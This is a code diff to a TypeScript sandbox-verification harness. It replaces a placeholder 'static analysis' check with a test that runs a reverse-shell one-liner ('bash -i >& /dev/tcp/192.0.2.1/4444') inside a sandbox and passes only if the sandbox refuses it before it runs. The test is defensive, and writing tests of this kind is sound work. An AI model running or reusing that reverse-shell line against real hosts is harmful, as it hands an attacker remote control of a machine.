@@ -36,6 +36,8 @@ const MEMORY_MIB = 96
 const LIFE_MS = 700
 /** Of a program that is to hit a limit: without the limit, its end is another. */
 const PATIENCE_MS = 30_000
+/** To nobody (RFC 5737). */
+const REVERSE_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
 
 /** Tries each on a sandbox behind the wall that `request` names. Only a wall that has been tried already is asked for. */
 export async function sevenChecks(parts: Parts, signal: AbortSignal): Promise<Check[]> {
@@ -49,16 +51,10 @@ export async function sevenChecks(parts: Parts, signal: AbortSignal): Promise<Ch
     } finally {
       await sandbox.kill(signal)
     }
-    return [...isolation, await memory(parts, signal), await time(parts, signal), await record(parts, sandbox.id, signal), STATIC_ANALYSIS]
+    return [...isolation, await memory(parts, signal), await time(parts, signal), await record(parts, sandbox.id, signal), await scan(parts, signal)]
   } finally {
     await canary[Symbol.asyncDispose]()
   }
-}
-
-const STATIC_ANALYSIS: Check = {
-  check: 'static analysis',
-  state: 'unavailable',
-  evidence: 'code is run as it comes; the walls do not depend on what it looks like',
 }
 
 async function processes(sandbox: Held, signal: AbortSignal): Promise<Check> {
@@ -133,6 +129,22 @@ async function record({ recorded }: Parts, sandbox: string, signal: AbortSignal)
   if (lacking.length > 0) return { check, state: 'unavailable', evidence: `of ${sandbox} the record lacks: ${lacking.join(', ')}` }
   const children = kinds.includes('exec') ? 'what children execute, too' : 'but not what children execute'
   return { check, state: 'proven', evidence: `${kinds.length} records of ${sandbox}, from its plan to its end, ${children}` }
+}
+
+/** An early answer, whatever the wall: the others do not depend on it. */
+async function scan({ door, request }: Parts, signal: AbortSignal): Promise<Check> {
+  const check = 'static analysis'
+  const sandbox = await door.create({ ...request, scan: 'block' }, signal)
+  try {
+    await shell(sandbox, REVERSE_SHELL, signal)
+    return { check, state: 'unavailable', evidence: 'a reverse shell was not seen for what it is' }
+  } catch (failure) {
+    if (!(failure instanceof Fault)) throw failure
+    const state = failure.code === 'SCAN_REFUSED' ? 'proven' : 'unavailable'
+    return { check, state, evidence: `a reverse shell, to be refused before it runs: ${failure.message}` }
+  } finally {
+    await sandbox.kill(signal)
+  }
 }
 
 /** A limit that cannot be had here is refused by name. */
